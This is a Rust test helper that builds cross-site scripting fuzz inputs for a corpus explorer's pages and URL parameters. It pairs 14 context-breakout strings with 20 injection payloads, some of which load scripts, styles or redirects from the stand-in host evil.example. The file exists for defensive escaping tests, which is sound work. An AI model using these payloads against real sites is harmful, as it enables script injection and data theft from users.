//! Words that would do harm if they were ever taken for more than words.
//!
//! Each is a way out of where text may stand, and what would then be run or fetched. In a page
//! `window.pwned` tells that one was. With them the names that stand before a `=` in an address.
//! Used natively and in browsers.

use pledges::corpus::model::{Corpus, UnitNo};
use pledges::embed::Form;
use pledges::explore::escape;
use pledges::explore::facet::Facet;
use pledges::explore::series::{Counting, Per};
use pledges::explore::view::{Color, Show, Sort, View};
use pledges::ui::page::EmbedView;
use pledges::ui::page::builder::Wish;

/// Ways out of text, attributes, elements and comments.
const OUT: [&str; 14] = [
    "",
    "\"",
    "'",
    ">",
    "\">",
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</svg>",
    "-->",
    "]]>",
    "`",
];

/// What would then be there.
const HARM: [&str; 20] = [
    "<script>pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<details open ontoggle=pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=pwned=1>",
    "<a href=javascript:pwned=1>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=//evil.example/></object>",
    " onmouseover=pwned=1 onfocus=pwned=1 autofocus x=",
    "javascript:pwned=1//",
    "${pwned=1}{{constructor.constructor('pwned=1')()}}",
    "\u{202e}\0\u{feff}<script>pwned=1</script>",
];

/// Every way out with every harm.
pub(crate) fn all() -> Vec<String> {
    let pairs = OUT
        .iter()
        .flat_map(|out| HARM.iter().map(move |harm| (out, harm)));
    pairs.map(|(out, harm)| [*out, harm].concat()).collect()
}

/// Every name that means something in an address of the explorer or of the builder, read off two
/// that ask for everything there is to ask for; and one that means nothing.
pub(crate) fn keys(corpus: &Corpus) -> Vec<String> {
    // No field is left to its default: who adds one adds it here.
    let view = View {
        q: "nurses".to_owned(),
        chosen: Facet::ALL.map(|_| vec![0]),
        from: Some(2015),
        to: Some(2018),
        sort: Sort::Oldest,
        show: Show::Table,
        count: Counting::All,
        split: true,
        per: Per::Article,
        color: Color::Dark,
        against: Some(Box::default()),
    };
    let whole = Wish {
        embed: EmbedView::Years,
        view,
        width: Some(500),
        height: Some(400),
        live: false,
        form: Form::Frame,
    };
    let one = Wish::of(EmbedView::Unit(UnitNo(0)));
    let mut keys = Vec::new();
    for printed in [whole.print(corpus), one.print(corpus)] {
        for [key, _] in escape::pairs(printed.trim_start_matches('?')) {
            if !keys.contains(&key) {
                keys.push(key);
            }
        }
    }
    keys.push("other".to_owned());
    keys
}
